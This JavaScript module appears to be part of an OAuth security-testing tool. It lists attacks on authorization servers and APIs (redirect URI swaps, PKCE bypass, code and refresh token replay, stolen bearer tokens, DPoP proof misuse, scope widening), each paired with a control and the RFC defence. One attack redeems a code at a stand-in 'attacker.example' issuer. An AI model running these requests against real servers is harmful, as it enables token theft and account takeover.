// The attacks, as values: what each begins with, what is sent, and when it has succeeded. Nothing here touches the page or
// sends anything.

import { apiCall, authorization, basic, redemption, refreshing } from "./flow.js";

/** @import { Answer } from "./cards.js" */
/** @import { Parameter, Request, Run } from "./flow.js" */

/**
 * Where the victim's flow runs.
 * @typedef {object} Target
 * @property {Run} run the flow of the application that is attacked
 * @property {string} secret its client secret; empty for a public client
 * @property {string} api the URL of an API that its tokens open
 * @property {{ authorize: string, token: string, revoke: string }} endpoints
 */

/** How far the victim's own flow has come when the attack begins. @typedef {"nothing" | "code" | "tokens" | "narrow" | "refreshed" | "bound" | "mine"} Beginning */

/**
 * What the victim's flow has left behind. What an attack does not need is empty.
 * @typedef {object} Loot
 * @property {Target} target
 * @property {URLSearchParams} response the authorization response
 * @property {string} code
 * @property {string} access the access token
 * @property {string} id the ID token
 * @property {string} refresh the first refresh token
 * @property {string} latest the refresh token that its owner has now
 * @property {string} proof a DPoP proof that went with a call
 * @property {(who: "owner" | "thief", method: string, url: string, token: string) => Promise<string>} prove
 */

/** An answer; of what a browser followed, with the URL at which it ended. @typedef {Answer & { url?: string }} Reply */

/** @typedef {(loot: Loot) => Request | Promise<Request>} Made */

/**
 * @typedef {object} Attack
 * @property {string} id
 * @property {"code" | "token" | "refresh"} group what is attacked
 * @property {Beginning} begins
 * @property {"attacker" | "browser" | "nobody"} sends who sends the request: the attacker, the victim's browser with its
 *   cookies, or nobody, where the application itself must see the attack before it sends anything
 * @property {string[]} changed the parameters that differ from what the application would have sent
 * @property {Made} request
 * @property {(reply: Reply | null, loot: Loot) => boolean} succeeds
 * @property {Made} [control] the same without the attack. It must be granted: else the server refused for another reason,
 *   and nothing is proved
 * @property {(loot: Loot) => { name: string, request: Request }[]} [aftermath] what the owner tries when the attack is over
 * @property {"nothing" | "grant" | "token"} costs what falls with it
 * @property {string[]} sections where the defence stands
 */

/** An authorization server of the attacker's, which the application trusts as it trusts this one. It does not say that it sends `iss`. */
export const ROGUE = { issuer: "https://attacker.example", sendsIss: false };

/** The attacks, in the order of a flow. Each has a flow of its own to destroy. @type {Attack[]} */
export const ATTACKS = [
  {
    id: "redirect-swapped",
    group: "code",
    begins: "nothing",
    sends: "browser",
    changed: ["redirect_uri"],
    request: ({ target }) => silent({ ...target.run, redirectUri: elsewhere(target.run) }, target),
    succeeds: (reply, { target }) => arrivedWithCode(reply, elsewhere(target.run)),
    control: ({ target }) => silent(target.run, target),
    costs: "nothing",
    sections: ["RFC 9700 2.1", "RFC 6749 3.1.2.3"],
  },
  {
    id: "mixed-up",
    group: "code",
    begins: "code",
    sends: "nobody",
    changed: [],
    request: ({ target, code }) => redemption(target.run, `${ROGUE.issuer}/token`, "", code),
    succeeds: (_, { response }) => isFrom(ROGUE, response),
    costs: "nothing",
    sections: ["RFC 9207 2.4", "RFC 9700 4.4"],
  },
  {
    id: "redirect-changed",
    group: "code",
    begins: "code",
    sends: "attacker",
    changed: ["redirect_uri"],
    request: ({ target, code }) => redeemed({ ...target.run, redirectUri: elsewhere(target.run) }, target, code),
    succeeds: gotToken,
    control: ({ target, code }) => redeemed(target.run, target, code),
    costs: "nothing",
    sections: ["RFC 6749 4.1.3", "RFC 9700 2.1"],
  },
  {
    id: "verifier-dropped",
    group: "code",
    begins: "code",
    sends: "attacker",
    changed: ["code_verifier"],
    request: ({ target, code }) => redeemed({ ...target.run, verifier: "" }, target, code),
    succeeds: gotToken,
    control: ({ target, code }) => redeemed(target.run, target, code),
    costs: "nothing",
    sections: ["RFC 7636 4.6", "RFC 9700 2.1.1"],
  },
  {
    id: "verifier-changed",
    group: "code",
    begins: "code",
    sends: "attacker",
    changed: ["code_verifier"],
    request: ({ target, code }) => redeemed({ ...target.run, verifier: reversed(target.run.verifier) }, target, code),
    succeeds: gotToken,
    control: ({ target, code }) => redeemed(target.run, target, code),
    costs: "nothing",
    sections: ["RFC 7636 4.6"],
  },
  {
    id: "code-replayed",
    group: "code",
    begins: "tokens",
    sends: "attacker",
    changed: [],
    request: ({ target, code }) => redeemed(target.run, target, code),
    succeeds: gotToken,
    aftermath: ({ target, access }) => [{ name: "owner-calls", request: apiCall(target.api, access) }],
    costs: "grant",
    sections: ["RFC 6749 4.1.2", "RFC 9700 4.5"],
  },
  {
    id: "bearer-stolen",
    group: "token",
    begins: "mine",
    sends: "attacker",
    changed: [],
    request: ({ target, access }) => apiCall(target.api, access),
    succeeds: granted,
    costs: "token",
    sections: ["RFC 9700 4.10", "RFC 7009 2"],
  },
  {
    id: "bound-as-bearer",
    group: "token",
    begins: "bound",
    sends: "attacker",
    changed: ["Authorization"],
    request: ({ target, access }) => apiCall(target.api, access),
    succeeds: granted,
    control: calledByOwner,
    costs: "nothing",
    sections: ["RFC 9449 7.2"],
  },
  {
    id: "bound-to-another",
    group: "token",
    begins: "bound",
    sends: "attacker",
    changed: ["DPoP"],
    request: async ({ target: { api }, access, prove }) => calledWith(api, access, await prove("thief", "GET", api, access)),
    succeeds: granted,
    control: calledByOwner,
    costs: "nothing",
    sections: ["RFC 9449 7.1"],
  },
  {
    id: "proof-replayed",
    group: "token",
    begins: "bound",
    sends: "attacker",
    changed: [],
    request: ({ target, access, proof }) => calledWith(target.api, access, proof),
    succeeds: granted,
    control: calledByOwner,
    costs: "nothing",
    sections: ["RFC 9449 11.1"],
  },
  {
    id: "id-as-access",
    group: "token",
    begins: "tokens",
    sends: "attacker",
    changed: ["Authorization"],
    request: ({ target, id }) => apiCall(target.api, id),
    succeeds: granted,
    control: ({ target, access }) => apiCall(target.api, access),
    costs: "nothing",
    sections: ["RFC 9068 4", "RFC 8725 3.11"],
  },
  {
    id: "scope-widened",
    group: "refresh",
    begins: "narrow",
    sends: "attacker",
    changed: ["scope"],
    request: ({ target, refresh }) => renewed({ ...target.run, flow: "refresh" }, target, refresh),
    succeeds: (reply, { target }) => gotToken(reply) && String(reply?.members.scope ?? target.run.scope).split(" ").includes(widest(target.run.scope)),
    control: ({ target, refresh }) => renewed({ ...target.run, flow: "code" }, target, refresh),
    costs: "nothing",
    sections: ["RFC 6749 6"],
  },
  {
    id: "refresh-reused",
    group: "refresh",
    begins: "refreshed",
    sends: "attacker",
    changed: ["refresh_token"],
    request: ({ target, refresh }) => renewed({ ...target.run, flow: "code" }, target, refresh),
    succeeds: gotToken,
    aftermath: ({ target, latest, access }) => [
      { name: "owner-refreshes", request: renewed({ ...target.run, flow: "code" }, target, latest) },
      { name: "owner-calls", request: apiCall(target.api, access) },
    ],
    costs: "grant",
    sections: ["RFC 9700 4.14.2"],
  },
];

/**
 * What came of an attack. Caught is one that was refused only if the same request without the attack was granted.
 * @param {boolean} succeeded
 * @param {Reply | null} control the answer to the request without the attack; null where there is none
 * @returns {"succeeded" | "caught" | "unproved"}
 */
export function verdict(succeeded, control) {
  if (succeeded) return "succeeded";
  return control === null || control.status < 400 ? "caught" : "unproved";
}

/**
 * Whether a response may be taken for one of this server (RFC 9207 2.4).
 * @param {{ issuer: string, sendsIss: boolean }} server as its metadata describes it
 * @param {URLSearchParams} response
 */
export function isFrom({ issuer, sendsIss }, response) {
  const iss = response.get("iss");
  return iss === null ? !sendsIss : iss === issuer;
}

/**
 * An authorization request that must not bother the user (OpenID Connect Core 3.1.2.1).
 * @param {Run} run
 * @param {Target} target
 * @returns {Request}
 */
export function silent(run, { endpoints }) {
  const request = authorization(run, endpoints.authorize);
  return { ...request, parameters: [...request.parameters, { part: "query", name: "prompt", value: "none", meaning: "prompt" }] };
}

/**
 * RFC 7009 2.1.
 * @param {Target} target
 * @param {string} token
 * @returns {Request}
 */
export function revocation({ run, secret, endpoints }, token) {
  /** @type {Parameter} */
  const client = secret === ""
    ? { part: "body", name: "client_id", value: run.clientId, meaning: "client_id" }
    : { part: "header", name: "Authorization", value: basic(run.clientId, secret), meaning: "Authorization: Basic" };
  return { method: "POST", url: endpoints.revoke, parameters: [{ part: "body", name: "token", value: token, meaning: "token" }, client] };
}

/**
 * RFC 9449 7.1.
 * @param {string} url
 * @param {string} token
 * @param {string} proof
 * @returns {Request}
 */
export function calledWith(url, token, proof) {
  return {
    method: "GET",
    url,
    parameters: [
      { part: "header", name: "Authorization", value: `DPoP ${token}`, meaning: "Authorization: DPoP" },
      { part: "header", name: "DPoP", value: proof, meaning: "DPoP" },
    ],
  };
}

/** Without the last scope of an API, which the attack then asks for. @param {string} scope */
export function narrower(scope) {
  return scope.split(" ").filter((one) => one !== widest(scope)).join(" ");
}

/** The last scope of an API; empty when there is none. @param {string} scope */
function widest(scope) {
  return scope.split(" ").filter((one) => !OPENID.includes(one)).at(-1) ?? "";
}

/** An address of the application's host that is not registered. @param {Run} run */
function elsewhere(run) {
  return `${run.redirectUri}/elsewhere`;
}

/** @param {string} text */
function reversed(text) {
  return [...text].reverse().join("");
}

/** @param {Run} run @param {Target} target @param {string} code */
function redeemed(run, target, code) {
  return redemption(run, target.endpoints.token, target.secret, code);
}

/** @param {Run} run @param {Target} target @param {string} token */
function renewed(run, target, token) {
  return refreshing(run, target.endpoints.token, target.secret, token);
}

/** @param {Loot} loot */
async function calledByOwner({ target: { api }, access, prove }) {
  return calledWith(api, access, await prove("owner", "GET", api, access));
}

/** @param {Reply | null} reply */
function granted(reply) {
  return reply !== null && reply.status < 400;
}

/** @param {Reply | null} reply */
function gotToken(reply) {
  return granted(reply) && typeof reply?.members.access_token === "string";
}

/** @param {Reply | null} reply @param {string} place */
function arrivedWithCode(reply, place) {
  const url = reply?.url ?? "";
  return url.split("?")[0] === place && new URL(url).searchParams.has("code");
}

/** OpenID Connect Core 5.4, 11: these belong to no API. */
const OPENID = ["openid", "profile", "email", "address", "phone", "offline_access"];
